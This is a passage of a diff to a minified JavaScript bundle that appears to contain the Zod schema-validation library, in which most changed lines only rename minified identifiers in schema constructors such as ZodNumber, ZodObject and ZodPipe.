 exclusiveMinimum:f}=Le(a);return Math.max(u??Number.NEGATIVE_INFINITY,f??Number.NEGATIVE_INFINITY)},maxValue:a=>{const{maximum:u,
 exclusiveMaximum:f}=Le(a);return Math.min(u??Number.POSITIVE_INFINITY,f??Number.POSITIVE_INFINITY)},isInt:a=>{const{isInt:u,
 multipleOf:f}=Le(a);return!!u||!!f?.some(Number.isSafeInteger)},format:a=>Le(a).format??null},{gt(a,u){return this.check(
 ve.Tx(a,u))},gte(a,u){return this.check(ve.qm(a,u))},min(a,u){return this.check(ve.qm(a,u))},lt(a,u){return this.check(ve.
-Au(a,u))},lte(a,u){return this.check(ve.Zm(a,u))},max(a,u){return this.check(ve.Zm(a,u))},int(a){return this.check(Zo(a))},
-safe(a){return this.check(Zo(a))},positive(a){return this.check(ve.Tx(0,a))},nonnegative(a){return this.check(ve.qm(0,a))},
+Au(a,u))},lte(a,u){return this.check(ve.Zm(a,u))},max(a,u){return this.check(ve.Zm(a,u))},int(a){return this.check(Wo(a))},
+safe(a){return this.check(Wo(a))},positive(a){return this.check(ve.Tx(0,a))},nonnegative(a){return this.check(ve.qm(0,a))},
 negative(a){return this.check(ve.Au(0,a))},nonpositive(a){return this.check(ve.Zm(0,a))},multipleOf(a,u){return this.check(
-ve.Hi(a,u))},step(a,u){return this.check(ve.Hi(a,u))},finite(){return this}}));function gl(a){return ve.F7(ml,a)}const wr=s.
-xI("ZodNumberFormat",(a,u)=>{en.init(a,u),ml.init(a,u)});function Zo(a){return ve.LK(wr,a)}function O$(a){return core._float32(
-wr,a)}function A$(a){return core._float64(wr,a)}function S$(a){return core._int32(wr,a)}function T$(a){return core._uint32(
-wr,a)}const Cl=s.xI("ZodBoolean",(a,u)=>{An.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>hi(a,f,p,m)});function yl(a){
-return ve._L(Cl,a)}const iC=s.xI("ZodBigInt",(a,u)=>{cs.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>jo(a,f,
+ve.Hi(a,u))},step(a,u){return this.check(ve.Hi(a,u))},finite(){return this}}));function Cl(a){return ve.F7(gl,a)}const wr=s.
+xI("ZodNumberFormat",(a,u)=>{tn.init(a,u),gl.init(a,u)});function Wo(a){return ve.LK(wr,a)}function M$(a){return core._float32(
+wr,a)}function G$(a){return core._float64(wr,a)}function H$(a){return core._int32(wr,a)}function z$(a){return core._uint32(
+wr,a)}const yl=s.xI("ZodBoolean",(a,u)=>{Sn.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>hi(a,f,p,m)});function wl(a){
+return ve._L(yl,a)}const lC=s.xI("ZodBigInt",(a,u)=>{cs.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Mo(a,f,
 p,m)},r.un({minValue:a=>Le(a).minimum??null,maxValue:a=>Le(a).maximum??null,format:a=>Le(a).format??null},{gte(a,u){return this.
 check(ve.qm(a,u))},min(a,u){return this.check(ve.qm(a,u))},gt(a,u){return this.check(ve.Tx(a,u))},lt(a,u){return this.check(
 ve.Au(a,u))},lte(a,u){return this.check(ve.Zm(a,u))},max(a,u){return this.check(ve.Zm(a,u))},positive(a){return this.check(
 ve.Tx(BigInt(0),a))},negative(a){return this.check(ve.Au(BigInt(0),a))},nonpositive(a){return this.check(ve.Zm(BigInt(0),
-a))},nonnegative(a){return this.check(ve.qm(BigInt(0),a))},multipleOf(a,u){return this.check(ve.Hi(a,u))}}));function I$(a){
-return core._bigint(iC,a)}const wl=null;function $$(a){return core._int64(wl,a)}function R$(a){return core._uint64(wl,a)}
-const oC=null;function N$(a){return core._symbol(oC,a)}const aC=null;function F$(a){return core._undefined(aC,a)}const cC=null;
-function uC(a){return core._null(cC,a)}const lC=null;function P$(){return core._any(lC)}const dC=s.xI("ZodUnknown",(a,u)=>{
-us.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>gu(a,f,p,m)});function Js(){return ve.em(dC)}const BC=s.xI("\
-ZodNever",(a,u)=>{Zt.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>mu(a,f,p,m)});function bl(a){return ve.G8(
-BC,a)}const fC=null;function L$(a){return core._void(fC,a)}const hC=s.xI("ZodDate",(a,u)=>{wn.init(a,u),kt.init(a,u),a._zod.
-processJSONSchema=(f,p,m)=>Cu(a,f,p,m),a.min=(f,p)=>a.check(ve.qm(f,p)),a.max=(f,p)=>a.check(ve.Zm(f,p))},r.un({minDate:a=>{
-const{minimum:u}=Le(a);return u?new Date(u):null},maxDate:a=>{const{maximum:u}=Le(a);return u?new Date(u):null}},{}));function j$(a){
-return core._date(hC,a)}const pC=s.xI("ZodArray",(a,u)=>{Cr(),Xe.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Eu(
+a))},nonnegative(a){return this.check(ve.qm(BigInt(0),a))},multipleOf(a,u){return this.check(ve.Hi(a,u))}}));function U$(a){
+return core._bigint(lC,a)}const bl=null;function J$(a){return core._int64(bl,a)}function Z$(a){return core._uint64(bl,a)}
+const dC=null;function W$(a){return core._symbol(dC,a)}const BC=null;function K$(a){return core._undefined(BC,a)}const fC=null;
+function hC(a){return core._null(fC,a)}const pC=null;function q$(){return core._any(pC)}const mC=s.xI("ZodUnknown",(a,u)=>{
+us.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Cu(a,f,p,m)});function Zs(){return ve.em(mC)}const gC=s.xI("\
+ZodNever",(a,u)=>{Zt.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>gu(a,f,p,m)});function _l(a){return ve.G8(
+gC,a)}const CC=null;function Y$(a){return core._void(CC,a)}const yC=s.xI("ZodDate",(a,u)=>{wn.init(a,u),kt.init(a,u),a._zod.
+processJSONSchema=(f,p,m)=>yu(a,f,p,m),a.min=(f,p)=>a.check(ve.qm(f,p)),a.max=(f,p)=>a.check(ve.Zm(f,p))},r.un({minDate:a=>{
+const{minimum:u}=Le(a);return u?new Date(u):null},maxDate:a=>{const{maximum:u}=Le(a);return u?new Date(u):null}},{}));function V$(a){
+return core._date(yC,a)}const wC=s.xI("ZodArray",(a,u)=>{Cr(),Xe.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>vu(
 a,f,p,m),a.element=u.element},{min(a,u){return this.check(ve.m9(a,u))},nonempty(a){return this.check(ve.m9(1,a))},max(a,u){
 return this.check(ve.Eb(a,u))},length(a,u){return this.check(ve.YA(a,u))},unwrap(){return this.element}});function _i(a,u){
-return ve.dZ(pC,a,u)}function M$(a){const u=a._zod.def.shape;return Ko(Object.keys(u))}const Wo=s.xI("ZodObject",(a,u)=>{
-Cr(),ir.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>vu(a,f,p,m),r.X(a,"shape",f=>f._zod.def.shape,!1)},{keyof(){
-return Ko(Object.keys(this._zod.def.shape))},catchall(a){return this.clone(r.zM(this._zod.def,{catchall:a}))},passthrough(){
-return this.clone(r.zM(this._zod.def,{catchall:Js()}))},loose(){return this.clone(r.zM(this._zod.def,{catchall:Js()}))},
-strict(){return this.clone(r.zM(this._zod.def,{catchall:bl()}))},strip(){return this.clone(r.zM(this._zod.def,{catchall:void 0}))},
+return ve.dZ(wC,a,u)}function Q$(a){const u=a._zod.def.shape;return qo(Object.keys(u))}const Ko=s.xI("ZodObject",(a,u)=>{
+Cr(),ir.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>ku(a,f,p,m),r.X(a,"shape",f=>f._zod.def.shape,!1)},{keyof(){
+return qo(Object.keys(this._zod.def.shape))},catchall(a){return this.clone(r.zM(this._zod.def,{catchall:a}))},passthrough(){
+return this.clone(r.zM(this._zod.def,{catchall:Zs()}))},loose(){return this.clone(r.zM(this._zod.def,{catchall:Zs()}))},
+strict(){return this.clone(r.zM(this._zod.def,{catchall:_l()}))},strip(){return this.clone(r.zM(this._zod.def,{catchall:void 0}))},
 extend(a){return r.X$(this,a)},safeExtend(a){return r.W0(this,a)},merge(a){return r.h1(this,a)},pick(a){return r.Up(this,
-a)},omit(a){return r.cJ(this,a)},partial(...a){return r.OH(qo,this,a[0])},exactPartial(...a){return r.OH(kl,this,a[0],"e\
-xactPartial")},required(...a){return r.mw(Dl,this,a[0])}});function mC(a,u){const f={type:"object",shape:a??{},...r.A2(u)};
-return new Wo(f)}function gC(a,u){return new Wo({type:"object",shape:a,catchall:bl(),...r.A2(u)})}function CC(a,u){return new Wo(
-{type:"object",shape:a,catchall:Js(),...r.A2(u)})}const yC=s.xI("ZodUnion",(a,u)=>{Kr.init(a,u),kt.init(a,u),a._zod.processJSONSchema=
-(f,p,m)=>ku(a,f,p,m),a.options=u.options});function _l(a,u){return new yC({type:"union",options:a,...r.A2(u)})}const wC=null;
-function G$(a,u){return new wC({type:"union",options:a,inclusive:!1,...util.normalizeParams(u)})}const bC=null;function H$(a,u,f){
-return new bC({type:"union",options:u,discriminator:a,...util.normalizeParams(f)})}const _C=s.xI("ZodIntersection",(a,u)=>{
-Vr.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Du(a,f,p,m)});function EC(a,u){return new _C({type:"intersec\
-tion",left:a,right:u})}const vC=s.xI("ZodTuple",(a,u)=>{Cr(),Qr.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>xu(
+a)},omit(a){return r.cJ(this,a)},partial(...a){return r.OH(Yo,this,a[0])},exactPartial(...a){return r.OH(Dl,this,a[0],"e\
+xactPartial")},required(...a){return r.mw(xl,this,a[0])}});function bC(a,u){const f={type:"object",shape:a??{},...r.A2(u)};
+return new Ko(f)}function _C(a,u){return new Ko({type:"object",shape:a,catchall:_l(),...r.A2(u)})}function EC(a,u){return new Ko(
+{type:"object",shape:a,catchall:Zs(),...r.A2(u)})}const vC=s.xI("ZodUnion",(a,u)=>{Kr.init(a,u),kt.init(a,u),a._zod.processJSONSchema=
+(f,p,m)=>Du(a,f,p,m),a.options=u.options});function El(a,u){return new vC({type:"union",options:a,...r.A2(u)})}const kC=null;
+function X$(a,u){return new kC({type:"union",options:a,inclusive:!1,...util.normalizeParams(u)})}const DC=null;function eR(a,u,f){
+return new DC({type:"union",options:u,discriminator:a,...util.normalizeParams(f)})}const xC=s.xI("ZodIntersection",(a,u)=>{
+Vr.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>xu(a,f,p,m)});function OC(a,u){return new xC({type:"intersec\
+tion",left:a,right:u})}const AC=s.xI("ZodTuple",(a,u)=>{Cr(),Qr.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Ou(
 a,f,p,m)},{rest(a){return this.clone({...this._zod.def,rest:a})},partial(){const a=this._zod.def;if(a.checks?.length)throw new Error(
-".partial() cannot be used on tuple schemas containing refinements");return this.clone({...a,items:a.items.map(u=>new qo(
-{type:"optional",innerType:u}))})}});function kC(a,u,f){const p=u instanceof core.$ZodType,m=p?f:u,w=p?u:null;return new vC(
+".partial() cannot be used on tuple schemas containing refinements");return this.clone({...a,items:a.items.map(u=>new Yo(
+{type:"optional",innerType:u}))})}});function SC(a,u,f){const p=u instanceof core.$ZodType,m=p?f:u,w=p?u:null;return new AC(
 {type:"tuple",items:a,rest:w,...util.normalizeParams(m)})}const Ei=s.xI("ZodRecord",(a,u)=>{Cr(),lr.init(a,u),kt.init(a,
-u),a._zod.processJSONSchema=(f,p,m)=>Ou(a,f,p,m),a.keyType=u.keyType,a.valueType=u.valueType});function El(a,u,f){return!u||
+u),a._zod.processJSONSchema=(f,p,m)=>Au(a,f,p,m),a.keyType=u.keyType,a.valueType=u.valueType});function vl(a,u,f){return!u||
 !u._zod?new Ei({type:"record",keyType:bi(),valueType:a,...r.A2(u)}):new Ei({type:"record",keyType:a,valueType:u,...r.A2(
-f)})}function DC(a,u,f){return new Ei({type:"record",keyType:a,valueType:u,...r.A2(f),partial:!0})}function z$(a,u,f){return new Ei(
-{type:"record",keyType:a,valueType:u,mode:"loose",...util.normalizeParams(f)})}const xC=null;function U$(a,u,f){return new xC(
-{type:"map",keyType:a,valueType:u,...util.normalizeParams(f)})}const OC=null;function J$(a,u){return new OC({type:"set",
+f)})}function TC(a,u,f){return new Ei({type:"record",keyType:a,valueType:u,...r.A2(f),partial:!0})}function tR(a,u,f){return new Ei(
+{type:"record",keyType:a,valueType:u,mode:"loose",...util.normalizeParams(f)})}const IC=null;function nR(a,u,f){return new IC(
+{type:"map",keyType:a,valueType:u,...util.normalizeParams(f)})}const $C=null;function sR(a,u){return new $C({type:"set",
 valueType:a,...util.normalizeParams(u)})}const vi=s.xI("ZodEnum",(a,u)=>{F.init(a,u),kt.init(a,u),a._zod.processJSONSchema=
-(p,m,w)=>yu(a,p,m,w),a.enum=u.entries,a.options=[...a._zod.values];const f=new Set(Object.keys(u.entries));a.extract=(p,m)=>{
+(p,m,w)=>wu(a,p,m,w),a.enum=u.entries,a.options=[...a._zod.values];const f=new Set(Object.keys(u.entries));a.extract=(p,m)=>{
 const w={};for(const v of p)if(f.has(v))w[v]=u.entries[v];else throw new Error(`Key ${v} not found in enum`);return new vi(
 {...u,checks:[],...r.A2(m),entries:w})},a.exclude=(p,m)=>{const w={...u.entries};for(const v of p)if(f.has(v))delete w[v];else
-throw new Error(`Key ${v} not found in enum`);return new vi({...u,checks:[],...r.A2(m),entries:w})}});function Ko(a,u){const f=Array.
-isArray(a)?Object.fromEntries(a.map(p=>[p,p])):a;return new vi({type:"enum",entries:f,...r.A2(u)})}function Z$(a,u){return new vi(
-{type:"enum",entries:a,...util.normalizeParams(u)})}const AC=s.xI("ZodLiteral",(a,u)=>{Oe.init(a,u),kt.init(a,u),a._zod.
-processJSONSchema=(f,p,m)=>wu(a,f,p,m),a.values=new Set(u.values),Object.defineProperty(a,"value",{get(){if(u.values.length>
+throw new Error(`Key ${v} not found in enum`);return new vi({...u,checks:[],...r.A2(m),entries:w})}});function qo(a,u){const f=Array.
+isArray(a)?Object.fromEntries(a.map(p=>[p,p])):a;return new vi({type:"enum",entries:f,...r.A2(u)})}function rR(a,u){return new vi(
+{type:"enum",entries:a,...util.normalizeParams(u)})}const RC=s.xI("ZodLiteral",(a,u)=>{Oe.init(a,u),kt.init(a,u),a._zod.
+processJSONSchema=(f,p,m)=>bu(a,f,p,m),a.values=new Set(u.values),Object.defineProperty(a,"value",{get(){if(u.values.length>
 1)throw new Error("This schema contains multiple valid literal values. Use `.values` instead.");return u.values[0]}})});
-function SC(a,u){return new AC({type:"literal",values:Array.isArray(a)?a:[a],...r.A2(u)})}const TC=null;function W$(a){return core.
-_file(TC,a)}const IC=s.xI("ZodTransform",(a,u)=>{Cr(),It.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>_u(a,f,
+function NC(a,u){return new RC({type:"literal",values:Array.isArray(a)?a:[a],...r.A2(u)})}const FC=null;function iR(a){return core.
+_file(FC,a)}const PC=s.xI("ZodTransform",(a,u)=>{Cr(),It.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Eu(a,f,
 p,m),a._zod.parse=(f,p)=>{if(p.direction==="backward")throw new s.cV(a.constructor.name);f.addIssue=w=>{if(typeof w=="st\
 ring")f.issues.push(r.sn(w,f.value,u));else{const v=w;v.fatal&&(v.continue=!1),v.code??(v.code="custom"),"input"in v||(v.
 input=f.value),v.inst??(v.inst=a),f.issues.push(r.sn(v))}};const m=u.transform(f.value,f);return m instanceof Promise?m.
-then(w=>(f.value=w,f)):(f.value=m,f)}});function vl(a){return new IC({type:"transform",transform:a})}const qo=s.xI("ZodO\
-ptional",(a,u)=>{Vt.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>zo(a,f,p,m),a.unwrap=()=>a._zod.def.innerType});
-function Yo(a){return new qo({type:"optional",innerType:a})}const kl=s.xI("ZodExactOptional",(a,u)=>{Xn.init(a,u),kt.init(
-a,u),a._zod.processJSONSchema=(f,p,m)=>zo(a,f,p,m),a.unwrap=()=>a._zod.def.innerType});function $C(a){return new kl({type:"\
-optional",innerType:a})}const RC=s.xI("ZodNullable",(a,u)=>{bn.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Au(
-a,f,p,m),a.unwrap=()=>a._zod.def.innerType});function Vo(a){return new RC({type:"nullable",innerType:a})}function K$(a){
-return Yo(Vo(a))}const NC=s.xI("ZodDefault",(a,u)=>{zn.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Iu(a,f,p,
-m),a.unwrap=()=>a._zod.def.innerType,a.removeDefault=a.unwrap});function FC(a,u){return new NC({type:"default",innerType:a,
-get defaultValue(){return typeof u=="function"?u():r.yG(u)}})}const PC=s.xI("ZodPrefault",(a,u)=>{Un.init(a,u),kt.init(a,
-u),a._zod.processJSONSchema=(f,p,m)=>$u(a,f,p,m),a.unwrap=()=>a._zod.def.innerType});function LC(a,u){return new PC({type:"\
-prefault",innerType:a,get defaultValue(){return typeof u=="function"?u():r.yG(u)}})}const Dl=s.xI("ZodNonOptional",(a,u)=>{
-Sn.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Su(a,f,p,m),a.unwrap=()=>a._zod.def.innerType});function jC(a,u){
-return new Dl({type:"nonoptional",innerType:a,...r.A2(u)})}const MC=null;function q$(a){return new MC({type:"success",innerType:a})}
-const GC=s.xI("ZodCatch",(a,u)=>{fs.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Ru(a,f,p,m),a.unwrap=()=>a.
-_zod.def.innerType,a.removeCatch=a.unwrap});function HC(a,u){return new GC({type:"catch",innerType:a,catchValue:typeof u==
-"function"?u:r.SS(u)})}const zC=null;function Y$(a){return core._nan(zC,a)}const UC=s.xI("ZodPipe",(a,u)=>{Io.init(a,u),
-kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Nu(a,f,p,m),a.in=u.in,a.out=u.out});function xl(a,u){return new UC({type:"\
-pipe",in:a,out:u})}const Qo=null;function V$(a,u,f){return new Qo({type:"pipe",in:a,out:u,transform:f.decode,reverseTransform:f.
-encode})}function Q$(a){const u=a._zod.def;return new Qo({type:"pipe",in:u.out,out:u.in,transform:u.reverseTransform,reverseTransform:u.
-transform})}const JC=null,ZC=s.xI("ZodReadonly",(a,u)=>{Ro.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Fu(a,
-f,p,m),a.unwrap=()=>a._zod.def.innerType});function WC(a){return new ZC({type:"readonly",innerType:a})}const KC=null;function X$(a,u){
-return new KC({type:"template_literal",parts:a,...util.normalizeParams(u)})}const qC=null;function YC(a){return new qC({
-type:"lazy",getter:a})}const VC=null;function eR(a){return new VC({type:"promise",innerType:a})}const QC=null;function tR(a){
-return new QC({type:"function",input:Array.isArray(a?.input)?kC(a?.input):a?.input??_i(Js()),output:a?.output??Js()})}const Xo=s.
-xI("ZodCustom",(a,u)=>{ri.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>bu(a,f,p,m)});function nR(a){const u=new core.
-$ZodCheck({check:"custom"});return u._zod.check=a,u}function sR(a,u){return core._custom(Xo,a??(()=>!0),u)}function XC(a,u={}){
-return ve.fU(Xo,a,u)}function ey(a,u){return ve.MB(a,u)}const rR=ve.q0,iR=ve.mI,ty=s.xI("ZodInstanceOf",(a,u)=>{Xo.init(
-a,u)},{properties(a,u){return this.check(ve.T2(a,u))}});function oR(a,u={}){const f=new ty({type:"custom",check:"custom",
+then(w=>(f.value=w,f)):(f.value=m,f)}});function kl(a){return new PC({type:"transform",transform:a})}const Yo=s.xI("ZodO\
+ptional",(a,u)=>{Qt.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Uo(a,f,p,m),a.unwrap=()=>a._zod.def.innerType});
+function Vo(a){return new Yo({type:"optional",innerType:a})}const Dl=s.xI("ZodExactOptional",(a,u)=>{Xn.init(a,u),kt.init(
+a,u),a._zod.processJSONSchema=(f,p,m)=>Uo(a,f,p,m),a.unwrap=()=>a._zod.def.innerType});function LC(a){return new Dl({type:"\
+optional",innerType:a})}const jC=s.xI("ZodNullable",(a,u)=>{bn.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Su(
+a,f,p,m),a.unwrap=()=>a._zod.def.innerType});function Qo(a){return new jC({type:"nullable",innerType:a})}function oR(a){
+return Vo(Qo(a))}const MC=s.xI("ZodDefault",(a,u)=>{zn.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>$u(a,f,p,
+m),a.unwrap=()=>a._zod.def.innerType,a.removeDefault=a.unwrap});function GC(a,u){return new MC({type:"default",innerType:a,
+get defaultValue(){return typeof u=="function"?u():r.yG(u)}})}const HC=s.xI("ZodPrefault",(a,u)=>{Un.init(a,u),kt.init(a,
+u),a._zod.processJSONSchema=(f,p,m)=>Ru(a,f,p,m),a.unwrap=()=>a._zod.def.innerType});function zC(a,u){return new HC({type:"\
+prefault",innerType:a,get defaultValue(){return typeof u=="function"?u():r.yG(u)}})}const xl=s.xI("ZodNonOptional",(a,u)=>{
+Tn.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Tu(a,f,p,m),a.unwrap=()=>a._zod.def.innerType});function UC(a,u){
+return new xl({type:"nonoptional",innerType:a,...r.A2(u)})}const JC=null;function aR(a){return new JC({type:"success",innerType:a})}
+const ZC=s.xI("ZodCatch",(a,u)=>{fs.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Nu(a,f,p,m),a.unwrap=()=>a.
+_zod.def.innerType,a.removeCatch=a.unwrap});function WC(a,u){return new ZC({type:"catch",innerType:a,catchValue:typeof u==
+"function"?u:r.SS(u)})}const KC=null;function cR(a){return core._nan(KC,a)}const qC=s.xI("ZodPipe",(a,u)=>{$o.init(a,u),
+kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Fu(a,f,p,m),a.in=u.in,a.out=u.out});function Ol(a,u){return new qC({type:"\
+pipe",in:a,out:u})}const Xo=null;function uR(a,u,f){return new Xo({type:"pipe",in:a,out:u,transform:f.decode,reverseTransform:f.
+encode})}function lR(a){const u=a._zod.def;return new Xo({type:"pipe",in:u.out,out:u.in,transform:u.reverseTransform,reverseTransform:u.
+transform})}const YC=null,VC=s.xI("ZodReadonly",(a,u)=>{No.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Pu(a,
+f,p,m),a.unwrap=()=>a._zod.def.innerType});function QC(a){return new VC({type:"readonly",innerType:a})}const XC=null;function dR(a,u){
+return new XC({type:"template_literal",parts:a,...util.normalizeParams(u)})}const ey=null;function ty(a){return new ey({
+type:"lazy",getter:a})}const ny=null;function BR(a){return new ny({type:"promise",innerType:a})}const sy=null;function fR(a){
+return new sy({type:"function",input:Array.isArray(a?.input)?SC(a?.input):a?.input??_i(Zs()),output:a?.output??Zs()})}const ea=s.
+xI("ZodCustom",(a,u)=>{ri.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>_u(a,f,p,m)});function hR(a){const u=new core.
+$ZodCheck({check:"custom"});return u._zod.check=a,u}function pR(a,u){return core._custom(ea,a??(()=>!0),u)}function ry(a,u={}){
+return ve.fU(ea,a,u)}function iy(a,u){return ve.MB(a,u)}const mR=ve.q0,gR=ve.mI,oy=s.xI("ZodInstanceOf",(a,u)=>{ea.init(
+a,u)},{properties(a,u){return this.check(ve.T2(a,u))}});function CR(a,u={}){const f=new oy({type:"custom",check:"custom",
 fn:p=>p instanceof a,abort:!0,...util.normalizeParams(u)});return f._zod.bag.Class=a,f._zod.check=p=>{p.value instanceof
-a||p.issues.push({code:"invalid_type",expected:a.name,input:p.value,inst:f,path:[...f._zod.def.path??[]]})},f}const aR=(...a)=>core.
-_stringbool({Codec:Qo,Boolean:Cl,String:Vu},...a);function cR(a){const u=YC(()=>_l([bi(a),gl(),yl(),uC(),_i(u),El(bi(),u)]));
-return u}function uR(a,u){return new JC({type:"pipe",in:vl(a),out:u})}},759:function(n,e,t){t.d(e,{$O:()=>S,$S:()=>rr,Au:()=>we,
-Be:()=>h,Bj:()=>D,Ct:()=>P,Dl:()=>E,ER:()=>Qn,Eb:()=>yt,F7:()=>Fe,Fk:()=>gn,Fn:()=>_,G1:()=>pe,G8:()=>wt,Hi:()=>dt,Il:()=>Yt,
-KB:()=>ke,Kn:()=>Ie,LK:()=>fe,MB:()=>js,Mu:()=>B,Ny:()=>Q,Pw:()=>z,Rl:()=>c,T2:()=>An,TL:()=>us,Tx:()=>Pe,Uy:()=>K,WN:()=>Gn,
-YA:()=>Mn,Zm:()=>Ce,_L:()=>de,_z:()=>L,aC:()=>k,bS:()=>yn,cU:()=>Be,dR:()=>$s,dZ:()=>Zt,db:()=>te,em:()=>ye,f2:()=>je,fU:()=>Ls,
-fs:()=>x,gP:()=>W,hH:()=>Cn,lo:()=>Rs,m9:()=>Jt,mI:()=>dr,nA:()=>g,pY:()=>C,q0:()=>lr,qF:()=>cn,qm:()=>Ct,rk:()=>q,rt:()=>se,
-tB:()=>d,wA:()=>y,xY:()=>Ns});var s=t(890),r=t(396),i=t(723);function o($){return $.checks&&($.checks=[...$.checks]),$}function c($,F){
+a||p.issues.push({code:"invalid_type",expected:a.name,input:p.value,inst:f,path:[...f._zod.def.path??[]]})},f}const yR=(...a)=>core.
+_stringbool({Codec:Xo,Boolean:yl,String:Qu},...a);function wR(a){const u=ty(()=>El([bi(a),Cl(),wl(),hC(),_i(u),vl(bi(),u)]));
+return u}function bR(a,u){return new YC({type:"pipe",in:kl(a),out:u})}},759:function(n,e,t){t.d(e,{$O:()=>S,$S:()=>rr,Au:()=>we,
+Be:()=>h,Bj:()=>D,Ct:()=>P,Dl:()=>E,ER:()=>Qn,Eb:()=>yt,F7:()=>Fe,Fk:()=>gn,Fn:()=>_,G1:()=>pe,G8:()=>wt,Hi:()=>dt,Il:()=>Vt,
+KB:()=>ke,Kn:()=>Ie,LK:()=>fe,MB:()=>Ms,Mu:()=>B,Ny:()=>Q,Pw:()=>z,Rl:()=>c,T2:()=>Sn,TL:()=>us,Tx:()=>Pe,Uy:()=>K,WN:()=>Gn,
+YA:()=>Mn,Zm:()=>ge,_L:()=>de,_z:()=>L,aC:()=>k,bS:()=>yn,cU:()=>Be,dR:()=>Rs,dZ:()=>Zt,db:()=>te,em:()=>ye,f2:()=>je,fU:()=>js,
+fs:()=>x,gP:()=>W,hH:()=>Cn,lo:()=>Ns,m9:()=>Jt,mI:()=>dr,nA:()=>g,pY:()=>C,q0:()=>lr,qF:()=>cn,qm:()=>Ct,rk:()=>q,rt:()=>se,
+tB:()=>d,wA:()=>y,xY:()=>Fs});var s=t(890),r=t(396),i=t(723);function o($){return $.checks&&($.checks=[...$.checks]),$}function c($,F){
 return new $(o({type:"string",...i.A2(F)}))}function l($,F){return new $(o({type:"string",coerce:!0,...util.normalizeParams(
 F)}))}function B($,F){return new $({type:"string",format:"email",check:"string_format",abort:!1,...i.A2(F)})}function d($,F){
 return new $({type:"string",format:"guid",check:"string_format",abort:!1,...i.A2(F)})}function h($,F){return new $({type:"\
@@ -2674,44 +2677,44 @@ normalizeParams(F)})}function re($,F){return new $({type:"undefined",...util.nor
 nknown"})}function wt($,F){return new $({type:"never",...i.A2(F)})}function Ne($,F){return new $({type:"void",...util.normalizeParams(
 F)})}function Re($,F){return new $({type:"date",...util.normalizeParams(F)})}function We($,F){return new $({type:"date",
 coerce:!0,...util.normalizeParams(F)})}function Ae($,F){return new $({type:"nan",...util.normalizeParams(F)})}function we($,F){
-return new s.sm({check:"less_than",...i.A2(F),value:$,inclusive:!1})}function Ce($,F){return new s.sm({check:"less_than",
+return new s.sm({check:"less_than",...i.A2(F),value:$,inclusive:!1})}function ge($,F){return new s.sm({check:"less_than",
 ...i.A2(F),value:$,inclusive:!0})}function Pe($,F){return new s.J_({check:"greater_than",...i.A2(F),value:$,inclusive:!1})}
 function Ct($,F){return new s.J_({check:"greater_than",...i.A2(F),value:$,inclusive:!0})}function be($){return Pe(0,$)}function lt($){
-return we(0,$)}function _e($){return Ce(0,$)}function Qe($){return Ct(0,$)}function dt($,F){return new s.Jk({check:"mult\
+return we(0,$)}function _e($){return ge(0,$)}function Qe($){return Ct(0,$)}function dt($,F){return new s.Jk({check:"mult\
 iple_of",...i.A2(F),value:$})}function bt($,F){return new checks.$ZodCheckMaxSize({check:"max_size",...util.normalizeParams(
 F),maximum:$})}function ft($,F){return new checks.$ZodCheckMinSize({check:"min_size",...util.normalizeParams(F),minimum:$})}
 function qe($,F){return new checks.$ZodCheckSizeEquals({check:"size_equals",...util.normalizeParams(F),size:$})}function yt($,F){
 return new s.Yk({check:"max_length",...i.A2(F),maximum:$})}function Jt($,F){return new s.Kk({check:"min_length",...i.A2(
 F),minimum:$})}function Mn($,F){return new s.RM({check:"length_equals",...i.A2(F),length:$})}function gn($,F){return new s.
 DG({check:"string_format",format:"regex",...i.A2(F),pattern:$})}function Cn($){return new s.NI({check:"string_format",format:"\
-lowercase",...i.A2($)})}function cn($){return new s.kH({check:"string_format",format:"uppercase",...i.A2($)})}function $s($,F){
+lowercase",...i.A2($)})}function cn($){return new s.kH({check:"string_format",format:"uppercase",...i.A2($)})}function Rs($,F){
 return new s.Tt({check:"string_format",format:"includes",...i.A2(F),includes:$})}function rr($,F){return new s.J({check:"\
 string_format",format:"starts_with",...i.A2(F),prefix:$})}function Qn($,F){return new s.E6({check:"string_format",format:"\
-ends_with",...i.A2(F),suffix:$})}function en($,F,Oe){return new checks.$ZodCheckProperty({check:"property",property:$,schema:F,
